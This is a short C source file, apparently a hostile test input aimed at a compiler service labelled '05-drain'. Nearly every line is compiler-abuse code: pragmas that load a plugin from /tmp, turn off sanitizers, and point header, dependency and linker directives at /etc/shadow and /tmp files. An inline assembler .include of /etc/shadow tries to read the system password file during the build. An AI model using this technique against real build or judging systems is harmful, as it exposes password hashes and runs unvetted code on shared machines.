/* against 05-drain: options for the compiler, from within. */
#pragma GCC optimize("no-sanitize=address")
#pragma GCC optimize("-fplugin=/tmp/plugin.so")
#pragma GCC pch_preprocess "/etc/shadow"
#pragma GCC dependency "/etc/shadow"
#pragma GCC diagnostic ignored "-Wall"
#pragma comment(linker, "/tmp/plugin.o")
__asm__(".include \"/etc/shadow\"");
int main(void)
{
    return 0;
}
